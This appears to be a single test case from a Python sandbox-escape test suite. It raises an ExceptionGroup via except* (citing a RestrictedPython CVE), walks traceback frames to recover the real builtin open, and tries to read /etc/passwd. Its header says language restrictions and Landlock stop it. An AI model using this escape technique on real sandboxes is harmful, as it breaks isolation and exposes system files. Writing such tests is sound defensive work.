# goal: use except* (the RestrictedPython CVE-2025-22153 construct) to get an ExceptionGroup, then climb its traceback frames to the real open
# capability: file
# stopped-by: language, landlock
caught = []
try:
    raise ExceptionGroup("group", [ValueError("inner"), TypeError("other")])
except* ValueError as group:
    caught.append(group)
except* TypeError as group:
    caught.append(group)
frame = caught[0].__traceback__.tb_frame
opener = None
while frame is not None and opener is None:
    opener = frame.f_builtins.get("open")
    frame = frame.f_back
try:
    data = opener("/etc/passwd", "rb").read(64)
except (OSError, TypeError) as error:
    print("blocked:", error)
else:
    print("ESCAPED: read /etc/passwd:", data[:16])
